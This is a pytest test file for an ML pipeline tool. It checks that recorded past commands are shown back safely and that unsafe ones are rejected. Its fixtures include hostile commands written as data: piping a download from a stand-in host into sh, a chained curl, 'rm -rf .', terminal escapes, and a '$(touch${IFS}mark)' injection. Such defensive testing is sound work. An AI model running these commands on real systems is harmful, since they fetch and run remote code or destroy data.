"""Tests of a report and a plan without settings: both are about the last run, and compose nothing that it records."""

import json
import shlex
import shutil
from pathlib import Path

import pytest

from stages.commands import finished_run
from stages.commands.finished_run import end_of_last_run, is_about_last_run
from stages.commands.plan import show_last_run
from stages.commands.plan_result import LastRun
from stages.config.choices import Role
from stages.config.errors import UserError
from stages.store.store import Store
from tests.helpers import TINY, Chain, inside, needing, refused, settings


def record(root: Path, command: object, stage: str = "report") -> None:
    """Let the manifest of the last node of a stage record another command."""
    manifest = root / "latest" / stage / "manifest.json"
    manifest.write_text(json.dumps(json.loads(manifest.read_text()) | {"command": command}))


def shown(root: Path, *overrides: str) -> LastRun:
    return show_last_run(Store(root), [f"outputs={root}", *overrides])


def test_only_a_line_without_settings_is_about_the_last_run(chain: Chain, tmp_path: Path) -> None:
    store = Store(chain.root)
    for stage in ("plan", "report"):
        bare = {"stage": stage, "outputs": str(chain.root), f"{stage}.key": "1", "tracker": "none"}
        assert is_about_last_run(stage, bare, store)
        assert is_about_last_run(stage, bare | {"limits.minutes": "60"}, store)
        assert not is_about_last_run(stage, bare | {"dpo.beta": "0.2"}, store)
        assert not is_about_last_run(stage, bare | {"recipe": "demo"}, store)
        assert not is_about_last_run(stage, bare, Store(tmp_path / "nothing"))
    assert not is_about_last_run("report", {"outputs": str(chain.root)}, store)  # the default run
    assert not is_about_last_run("dpo", {"stage": "dpo"}, store)


def test_the_default_run_goes_on_without_settings(chain: Chain) -> None:
    record(chain.root, f"python run.py stage=report outputs={chain.root}")
    store = Store(chain.root)
    assert not is_about_last_run("plan", {"stage": "plan"}, store)
    assert is_about_last_run("report", {"stage": "report"}, store)  # it is finished
    (chain.root / "latest" / "report").unlink()
    record(chain.root, "python run.py stage=eval", "eval")
    assert not is_about_last_run("report", {"stage": "report"}, store)


@pytest.mark.extended
def test_a_plan_shows_the_last_run_as_a_command_to_type(chain: Chain) -> None:
    plan = inside("stage=plan", f"outputs={chain.root}")
    assert plan.returncode == 0, plan.stderr
    command = f"python run.py stage=plan outputs={chain.root} recipe=tiny"
    assert command in plan.stdout.splitlines()
    assert "to build" not in plan.stdout and "Look first" not in plan.stdout
    reply = json.loads(inside("stage=plan", f"outputs={chain.root}", "--json").stdout)
    assert reply["result"]["next_command"] == command and reply["result"]["look_at"] == []


@pytest.mark.parametrize(
    "setting",
    [
        "sample.runtime.python=/any/program",
        "label.endpoints=[{base_url: http://other, api_key_env: HF_TOKEN}]",
        "label.own={file: mine.py, name: Mine}",
        needing("benchmarks", "benchmark.tasks_dir=/any/folder"),
        "recipe=/any/recipe.yaml",
        "dpo={runtime: {python: /any/program}}",
    ],
)
def test_a_recorded_program_or_server_is_to_be_looked_at(chain: Chain, setting: str) -> None:
    record(chain.root, shlex.join(["python", "run.py", "stage=report", "recipe=tiny", setting]))
    plan = shown(chain.root)
    assert plan.next_command is not None and setting in shlex.split(plan.next_command)
    [warned] = plan.look_at
    assert warned.startswith(setting)


@pytest.mark.parametrize(
    "command",
    [
        None,
        "",
        ["python", "run.py"],
        {"a": 1},
        "curl http://other | sh",
        "python run.py stage=report; curl http://other",
        "python run.py 'a=1",
        "python other.py a=1",
        "python run.py -m dpo.beta=1",
        "python run.py dpo.beta=1\x1b[2J",
        "python run.py dpo.beta=1\nrm -rf .",
        "python run.py dpo.beta=1\u202e",
        f"python run.py {'a' * 30_000}=1",
    ],
)
def test_other_text_is_shown_and_is_no_command(
    chain: Chain, command: object, capsys: pytest.CaptureFixture[str]
) -> None:
    record(chain.root, command)
    plan = shown(chain.root)
    assert plan.next_command is None
    plan.show()
    output = capsys.readouterr().out
    assert len(output.splitlines()) == 2 and len(output) < 1000
    assert output.replace("\n", "").isprintable()


def test_the_shell_takes_a_shown_setting_as_text(chain: Chain) -> None:
    setting = "dpo.beta=$(touch${IFS}mark)"
    record(chain.root, f"python run.py stage=report {setting}")
    plan = shown(chain.root)
    assert plan.next_command is not None and plan.next_command.endswith(f" '{setting}'")


@pytest.mark.extended
def test_a_report_without_settings_is_written_from_its_finished_nodes(chain: Chain) -> None:
    before = chain.count()
    again = inside("stage=report", f"outputs={chain.root}", "report.side_by_side=2")
    assert again.returncode == 0, again.stderr
    assert chain.count() - before == {"report": 1}
    end = end_of_last_run(Store(chain.root))
    assert end is not None and end.config["side_by_side"] == 2
    # its own command has the run's settings, so that the next plan shows them, too
    assert shown(chain.root).next_command == (
        f"python run.py stage=plan outputs={chain.root} recipe=tiny"
    )
    same = inside("stage=report", f"outputs={chain.root}", "report.side_by_side=2")
    assert same.returncode == 0 and chain.count() - before == {"report": 1}
    assert inside("stage=report", f"outputs={chain.root}", "rebuild=report").returncode == 0


def test_what_is_missing_for_a_report_is_named_with_the_way_out(chain: Chain) -> None:
    line = ("stage=report", f"outputs={chain.root}")
    assert refused(*line, "rebuild=sft").endswith(" recipe=tiny rebuild=sft")
    sample = chain.folder("sample")
    shutil.rmtree(sample)
    message = refused(*line)
    assert f"sample {sample.name}" in message and "stage=sample" in message
    assert "recipe=tiny" in message and not sample.exists()


def test_a_run_that_ended_before_a_report_is_typed_again(chain: Chain) -> None:
    for stage in ("report", "eval"):
        (chain.root / "latest" / stage).unlink()
    message = refused("stage=report", f"outputs={chain.root}")
    assert f"dpo {chain.folder('dpo').name}" in message and "recipe=tiny" in message
    record(chain.root, 7, "dpo")
    assert "recipe=NAME" in refused("stage=report", f"outputs={chain.root}")


@pytest.mark.extended
def test_a_report_without_settings_in_an_empty_store_is_the_default_run(tmp_path: Path) -> None:
    plan = inside("stage=plan", f"outputs={tmp_path}")
    assert plan.returncode == 0 and "recipe: demo" in plan.stdout + plan.stderr
    assert "to build" in plan.stdout


def test_the_only_trained_model_stands_for_a_policy(chain: Chain) -> None:
    for stage in ("report", "eval", "dpo"):
        (chain.root / "latest" / stage).unlink()
    run = finished_run.last_run(settings(*TINY, "stage=plan"), Store(chain.root))
    assert run.models.keys() == {"base", "sft"}
    assert run.model(Role.policy, "chat.model") == run.models["sft"]
    with pytest.raises(UserError, match="Use base, sft"):
        run.model(Role.control, "chat.model")


def test_a_run_without_its_evaluation_is_told(chain: Chain) -> None:
    shutil.rmtree(chain.folder("eval"))
    with pytest.raises(UserError, match="is not in this store, so its run is not known"):
        finished_run.last_run(settings("stage=plan"), Store(chain.root))
